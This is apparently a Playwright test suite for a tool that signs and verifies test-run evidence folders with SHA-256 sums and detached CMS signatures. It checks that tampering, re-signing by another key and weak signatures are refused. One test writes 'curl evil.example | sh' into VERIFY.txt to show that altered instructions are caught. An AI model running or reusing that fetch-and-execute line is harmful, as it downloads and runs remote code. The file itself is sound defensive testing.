import { execFileSync, spawnSync } from 'node:child_process';
import { createHash, generateKeyPairSync, X509Certificate } from 'node:crypto';
import {
  appendFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import forge from 'node-forge';
import { signerFromEnvironment, signRun, verifyRun, writeReport } from './index.ts';
import { sampleLines } from './sample-run.ts';
import { ephemeralSigner, type RunSigner, writeSums } from './sign-run.ts';

const RUN = '20260302-090000-5a3c';
const OPENSSL = spawnSync('openssl', ['version']).status === 0;

// Another worker would make the keys and the folder that all of them look at once more.
test.describe.configure({ mode: 'default' });

let root: string;
let signer: RunSigner;
let attacker: RunSigner;
let certificate: string;

test.beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'assay-verify-'));
  signer = ephemeralSigner('the-owner');
  attacker = ephemeralSigner('the-owner');
  certificate = join(root, 'owner.pem');
  writeFileSync(certificate, signer.certificate);
  const folder = join(root, 'sealed');
  mkdirSync(folder);
  writeFileSync(
    join(folder, 'evidence.ndjson'),
    sampleLines()
      .map((line) => `${JSON.stringify(line)}\n`)
      .join(''),
  );
  writeReport(folder);
  signRun(folder, RUN, { ...signer, pinned: true });
});
test.afterAll(() => rmSync(root, { recursive: true }));

let folder: string;
test.beforeEach(() => {
  folder = mkdtempSync(join(root, 'run-'));
  cpSync(join(root, 'sealed'), folder, { recursive: true });
});

const pinned = () => verifyRun(folder, { certificate });
const flip = (name: string, at: number) => {
  const bytes = readFileSync(join(folder, name));
  bytes[at < 0 ? bytes.length + at : at]! ^= 1;
  writeFileSync(join(folder, name), bytes);
};

test('holds as it was signed, by certificate and by fingerprint', () => {
  const { findings, held, run } = pinned();
  expect(findings).toEqual([]);
  expect(held.join('\n')).toMatch(/signed with SHA-256[\s\S]*the one you named[\s\S]*8 files[\s\S]*same bytes/);
  expect(run?.id).toBe('20260302-090000-5a3c');
  const { fingerprint256 } = new X509Certificate(signer.certificate);
  expect(verifyRun(folder, { fingerprint: fingerprint256 }).findings).toEqual([]);
  expect(verifyRun(folder, { fingerprint: fingerprint256.replaceAll(':', '').toLowerCase() }).findings).toEqual([]);
});

test('without a pin says that nobody vouches for the signer', () => {
  const { findings, notes } = verifyRun(folder);
  expect(findings).toEqual([]);
  expect(notes.join()).toContain('unpinned, integrity only');
});

const NAMES = [
  'SHA256SUMS',
  'SHA256SUMS.p7s',
  'VERIFY.txt',
  'ctrf.json',
  'evidence.ndjson',
  'index.html',
  'junit.xml',
  'overlay.yaml',
  'run.json',
  'summary.md',
];

for (const name of NAMES) {
  test(`refuses ${name} with one bit changed, cut short, longer by a byte, or missing`, () => {
    const whole = readFileSync(join(folder, name));
    for (const at of [0, Math.floor(whole.length / 2), -1]) {
      flip(name, at);
      expect(pinned().findings, `bit at ${at}`).not.toEqual([]);
      writeFileSync(join(folder, name), whole);
    }
    writeFileSync(join(folder, name), whole.subarray(0, -1));
    expect(pinned().findings, 'cut').not.toEqual([]);
    writeFileSync(join(folder, name), whole);
    appendFileSync(join(folder, name), '\n');
    expect(pinned().findings, 'longer').not.toEqual([]);
    rmSync(join(folder, name));
    expect(pinned().findings, 'missing').not.toEqual([]);
  });
}

test('refuses a change to any byte of the signature', () => {
  const file = join(folder, 'SHA256SUMS.p7s');
  const whole = readFileSync(file);
  // Every byte of the head, and then some: the rest is certificate and signature value.
  for (let at = 0; at < whole.length; at += at < 60 ? 1 : 37) {
    flip('SHA256SUMS.p7s', at);
    expect(pinned().findings, `byte ${at}`).not.toEqual([]);
    writeFileSync(file, whole);
  }
});

test('refuses a file that was added, even one with a name like the sums', () => {
  for (const name of ['notes.txt', 'SHA256SUMS.old']) {
    writeFileSync(join(folder, name), 'x');
    expect(pinned().findings).toContain(`${name} was added`);
    rmSync(join(folder, name));
  }
});

test('refuses a folder signed anew by somebody else, however consistent', () => {
  const lines = readFileSync(join(folder, 'evidence.ndjson'), 'utf8').replace('"outcome":"fail"', '"outcome":"pass"');
  writeFileSync(join(folder, 'evidence.ndjson'), lines);
  writeReport(folder);
  signRun(folder, RUN, { ...attacker, pinned: true });
  expect(pinned().findings).toEqual([expect.stringContaining('the signer is another than you named')]);
  expect(verifyRun(folder).notes.join()).toContain('unpinned');
});

test('looks no further than sizes, sums and signer where one of them does not hold', () => {
  const began = Date.now();
  truncateSync(join(folder, 'evidence.ndjson'), 3 * 1024 ** 3);
  expect(pinned().findings).toEqual([
    expect.stringContaining('evidence.ndjson is larger than a run writes it'),
    expect.stringContaining('the folder is larger than a run writes it'),
  ]);
  cpSync(join(root, 'sealed'), folder, { recursive: true });
  for (const name of ['SHA256SUMS.p7s', 'SHA256SUMS', 'added.bin']) {
    writeFileSync(join(folder, name), '');
    truncateSync(join(folder, name), 3 * 1024 ** 3);
    expect(pinned().findings.join()).toContain(`${name} is larger than a run writes it`);
    rmSync(join(folder, name));
    cpSync(join(root, 'sealed'), folder, { recursive: true });
  }
  // Many secrets and a long line, and nobody reads them: the sum is another.
  writeFileSync(join(folder, 'evidence.ndjson'), `"4${'1'.repeat(32 * 1024 ** 2)}`);
  expect(pinned()).toMatchObject({ run: undefined, findings: ['evidence.ndjson was changed'] });
  expect(Date.now() - began).toBeLessThan(5000);
});

test('reads no line, and no more lines, than a run writes, even under a signature', () => {
  const began = Date.now();
  const journal = readFileSync(join(folder, 'evidence.ndjson'));
  for (const [text, finding] of [
    [`{"kind":"learned","what":"${'='.repeat(32 * 1024 ** 2)}"}\n`, 'longer than a run writes one'],
    ['{"kind":"learned"}\n'.repeat(600_000), 'more lines than a run writes'],
  ] as const) {
    writeFileSync(join(folder, 'evidence.ndjson'), journal);
    appendFileSync(join(folder, 'evidence.ndjson'), text);
    signRun(folder, RUN, { ...signer, pinned: true });
    expect(pinned().findings.join()).toContain(finding);
  }
  expect(Date.now() - began).toBeLessThan(10_000);
});

test('refuses a folder of a thousand files without reading one', () => {
  for (let i = 0; i < 1000; i += 1) writeFileSync(join(folder, `extra-${i}`), '');
  expect(() => pinned()).toThrow('a run folder holds a few files only');
});

test('refuses a signing time that lies ahead, and one before the end of the run', () => {
  const day = 86_400_000;
  signRun(folder, RUN, { ...signer, pinned: true }, new Date(Date.now() + 300 * day));
  expect(pinned().findings.join()).toContain('the signing time lies ahead');
  const early = ephemeralSigner('early', Date.parse('2026-01-01T00:00:00Z'));
  signRun(folder, RUN, early, new Date('2026-01-02T00:00:00Z'));
  expect(verifyRun(folder).findings.join()).toContain('lies before the end of the run');
});

test('refuses instructions that are another signature’s', () => {
  const file = join(folder, 'VERIFY.txt');
  writeFileSync(file, readFileSync(file, 'utf8').replace('openssl x509', 'curl evil.example | sh; openssl x509'));
  writeFileSync(join(folder, 'SHA256SUMS'), writeSums(folder));
  sealAgain();
  expect(pinned().findings).toEqual(['VERIFY.txt is not the one that belongs to this signature']);
});

test('refuses outcomes that their exchanges cannot have, and says how many follow from them', () => {
  const lines = readFileSync(join(folder, 'evidence.ndjson'), 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  const check = lines.find(({ kind, outcome }) => kind === 'check' && outcome === 'pass');
  const exchange = lines.find((line) => line.kind === 'exchange' && line.check === check.id);
  exchange.violations = [{ rule: check.rules[0], where: '/', expected: 'one thing', actual: 'another' }];
  writeFileSync(join(folder, 'evidence.ndjson'), lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
  writeReport(folder);
  signRun(folder, RUN, { ...signer, pinned: true });
  expect(pinned().findings.join('\n')).toContain(`check ${check.id} is recorded as pass, and exchange ${exchange.id}`);
  cpSync(join(root, 'sealed'), folder, { recursive: true });
  expect(pinned().notes.join()).toMatch(/outcomes of \d+ checks: none contradict/);
});

test('refuses verdicts that the evidence does not give, even under the right signature', () => {
  const text = readFileSync(join(folder, 'run.json'), 'utf8');
  writeFileSync(join(folder, 'run.json'), text.replace('"verdict": "broken"', '"verdict": "kept"'));
  signRun(folder, RUN, { ...signer, pinned: true });
  expect(pinned().findings).toEqual(['run.json is not what the journal gives']);
});

/** Signs the sums as they are. */
function sealAgain(): void {
  const made = forge.pkcs7.createSignedData();
  made.content = forge.util.createBuffer(readFileSync(join(folder, 'SHA256SUMS'), 'latin1'), 'raw');
  made.addCertificate(signer.certificate);
  made.addSigner({
    key: forge.pki.privateKeyFromPem(signer.key.export({ type: 'pkcs1', format: 'pem' }) as string),
    certificate: signer.certificate,
    digestAlgorithm: forge.pki.oids.sha256!,
    authenticatedAttributes: [
      { type: forge.pki.oids.contentType!, value: forge.pki.oids.data! },
      { type: forge.pki.oids.signingTime!, value: new Date() as unknown as string },
      { type: forge.pki.oids.messageDigest! },
    ],
  });
  made.sign({ detached: true });
  writeFileSync(join(folder, 'SHA256SUMS.p7s'), Buffer.from(forge.asn1.toDer(made.toAsn1()).getBytes(), 'latin1'));
}

test.describe('refuses a signature that is made otherwise', () => {
  const oids = forge.pki.oids as Record<string, string>;
  const make = (change: {
    digest?: string;
    attributes?: string[];
    detached?: boolean;
    by?: RunSigner;
    over?: string;
    at?: Date;
  }) => {
    const by = change.by ?? signer;
    const signed = forge.pkcs7.createSignedData();
    signed.content = forge.util.createBuffer(change.over ?? writeSums(folder), 'raw');
    signed.addCertificate(by.certificate);
    const attribute: Record<string, { type: string; value?: string }> = {
      contentType: { type: oids.contentType!, value: oids.data! },
      signingTime: { type: oids.signingTime!, value: (change.at ?? new Date()) as unknown as string },
      messageDigest: { type: oids.messageDigest! },
    };
    signed.addSigner({
      key: forge.pki.privateKeyFromPem(by.key.export({ type: 'pkcs1', format: 'pem' }) as string),
      certificate: by.certificate,
      digestAlgorithm: change.digest ?? oids.sha256!,
      authenticatedAttributes: (change.attributes ?? Object.keys(attribute)).map((name) => attribute[name]!),
    });
    signed.sign({ detached: change.detached ?? true });
    writeFileSync(join(folder, 'SHA256SUMS.p7s'), Buffer.from(forge.asn1.toDer(signed.toAsn1()).getBytes(), 'latin1'));
    return pinned().findings.join('\n');
  };

  test('and takes the one made in the right way', () => expect(make({})).toBe(''));
  test('with SHA-1', () => expect(make({ digest: oids.sha1! })).toContain('not SHA-256'));
  test('with SHA-512', () => expect(make({ digest: oids.sha512! })).toContain('not SHA-256'));
  test('with the signed text inside', () => expect(make({ detached: false })).toContain('not detached'));
  test('over other sums', () => expect(make({ over: 'other' })).toContain('another SHA256SUMS'));
  test('without signing time', () =>
    expect(make({ attributes: ['contentType', 'messageDigest'] })).toContain('signed along are not'));
  test('with its attributes in another order', () =>
    expect(make({ attributes: ['contentType', 'messageDigest', 'signingTime'] })).toContain('in this order'));
  test('at a time when the certificate was not valid', () =>
    expect(make({ at: new Date('2020-01-01T00:00:00Z') })).toContain('was not valid when'));
  test('with a short key', () => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const pem = privateKey.export({ type: 'pkcs1', format: 'pem' }) as string;
    const key = forge.pki.privateKeyFromPem(pem);
    const made = forge.pki.createCertificate();
    made.publicKey = forge.pki.setRsaPublicKey(key.n, key.e);
    made.serialNumber = '01';
    made.validity.notBefore = new Date(Date.now() - 1000);
    made.validity.notAfter = new Date(Date.now() + 1e7);
    made.sign(key, forge.md.sha256.create());
    const by = { key: privateKey, certificate: forge.pki.certificateToPem(made), pinned: true };
    expect(make({ by })).toContain('shorter than 2048 bits');
  });
  test('with bytes behind it', () => {
    make({});
    appendFileSync(join(folder, 'SHA256SUMS.p7s'), Buffer.alloc(1));
    expect(pinned().findings.join()).toContain('1 trailing bytes');
  });
});

test('takes key and certificate from the environment, also with a passphrase, and says what is wrong with them', () => {
  const key = join(root, 'key.pem');
  const locked = join(root, 'locked.pem');
  writeFileSync(key, signer.key.export({ type: 'pkcs8', format: 'pem' }));
  writeFileSync(
    locked,
    signer.key.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'open sesame' }),
  );
  const other = join(root, 'other.pem');
  writeFileSync(other, attacker.certificate);
  const env = { ASSAY_SIGN_KEY: key, ASSAY_SIGN_CERT: certificate };
  expect(signerFromEnvironment(env)).toMatchObject({ pinned: true });
  expect(signerFromEnvironment({ ...env, ASSAY_SIGN_KEY: locked, ASSAY_SIGN_PASSPHRASE: 'open sesame' })).toMatchObject(
    {
      pinned: true,
    },
  );
  expect(signerFromEnvironment({})).toBeUndefined();
  expect(() => signerFromEnvironment({ ASSAY_SIGN_KEY: key })).toThrow('ASSAY_SIGN_CERT is not set');
  expect(() => signerFromEnvironment({ ...env, ASSAY_SIGN_KEY: locked })).toThrow('the signing key cannot be opened');
  expect(() => signerFromEnvironment({ ...env, ASSAY_SIGN_CERT: other })).toThrow('belongs to another key');
  expect(() => signerFromEnvironment({ ...env, ASSAY_SIGN_KEY: join(root, 'nowhere') })).toThrow(
    'the file cannot be read',
  );
});

test('says of a folder that was never signed that it is not, and of no folder that there is none', () => {
  for (const name of ['SHA256SUMS', 'SHA256SUMS.p7s']) rmSync(join(folder, name));
  expect(() => pinned()).toThrow('the run folder is not signed');
  expect(() => verifyRun(join(root, 'nowhere'))).toThrow('there is no such folder');
  expect(() => verifyRun(folder, { fingerprint: 'AB:CD' })).toThrow('not one of SHA-256');
});

test.describe('with OpenSSL, as VERIFY.txt says', () => {
  test.skip(!OPENSSL, 'there is no openssl here');

  /** The commands of VERIFY.txt, joined where a line goes on. */
  const commands = () =>
    readFileSync(join(folder, 'VERIFY.txt'), 'utf8')
      .replace(/\\\n\s+/g, '')
      .split('\n')
      .filter((line) => /^ {4}(?:openssl|sha256sum|test) /.test(line))
      .map((line) => line.trim());
  const shell = (command: string) => spawnSync('sh', ['-c', command], { cwd: folder, encoding: 'utf8' });

  test('every command succeeds, for a pinned and for an unpinned signer', () => {
    const transcript: string[] = [];
    for (const by of ['pinned', 'unpinned'] as const) {
      signRun(folder, RUN, { ...signer, pinned: by === 'pinned' });
      const pin = join(root, 'pinned.pem');
      if (by === 'pinned') writeFileSync(pin, signer.certificate);
      for (const command of commands()) {
        const { status, stdout, stderr } = shell(command);
        transcript.push(`$ ${command}`, (stdout + stderr).trim());
        expect(status, `${command}\n${stderr}`).toBe(0);
        if (/fingerprint/.test(command))
          expect(stdout).toContain(new X509Certificate(signer.certificate).fingerprint256);
        if (/cmsout/.test(command)) {
          expect(stdout.match(/^ +algorithm: .*/gm)).toEqual(Array(2).fill(expect.stringContaining('sha256')));
        }
      }
      rmSync(pin, { force: true });
    }
    if (process.env.TRANSCRIPT === 'print') console.log(transcript.join('\n'));
    expect(transcript.join('\n')).toMatch(/verification successful/i);
  });

  test('a file whose name looks like the signature’s is one too many', () => {
    writeFileSync(join(folder, 'SHA256SUMS-p7s'), 'x');
    expect(shell(commands().find((command) => command.startsWith('test '))!).status).not.toBe(0);
  });

  test('a certificate that has expired since is held against the time of signing', () => {
    const past = Date.now() - 3651 * 86_400_000;
    const old = ephemeralSigner('old', past);
    signRun(folder, RUN, { ...old, pinned: true }, new Date(past));
    writeFileSync(join(root, 'pinned.pem'), old.certificate);
    const { status, stderr } = shell(commands().find((command) => command.includes('cms -verify'))!);
    expect(status, stderr).toBe(0);
  });

  test('another certificate, other sums and a changed signature fail', () => {
    const verify = () => shell(commands().find((command) => command.includes('cms -verify'))!).status;
    writeFileSync(join(root, 'pinned.pem'), signer.certificate);
    expect(verify()).toBe(0);
    writeFileSync(join(root, 'pinned.pem'), attacker.certificate);
    expect(verify()).not.toBe(0);
    writeFileSync(join(root, 'pinned.pem'), signer.certificate);
    flip('SHA256SUMS', 3);
    expect(verify()).not.toBe(0);
  });

  test('a signature that OpenSSL made in the same way is taken as well', () => {
    writeFileSync(join(root, 'k.pem'), signer.key.export({ type: 'pkcs8', format: 'pem' }));
    const ours = createHash('sha256')
      .update(readFileSync(join(folder, 'SHA256SUMS')))
      .digest('hex');
    execFileSync(
      'openssl',
      [
        'cms',
        '-sign',
        '-binary',
        '-md',
        'sha256',
        '-nosmimecap',
        '-signer',
        certificate,
        '-inkey',
        join(root, 'k.pem'),
        '-in',
        'SHA256SUMS',
        '-outform',
        'DER',
        '-out',
        'SHA256SUMS.p7s',
      ],
      { cwd: folder },
    );
    expect(ours).toHaveLength(64);
    expect(pinned().findings).toEqual([]);
  });
});
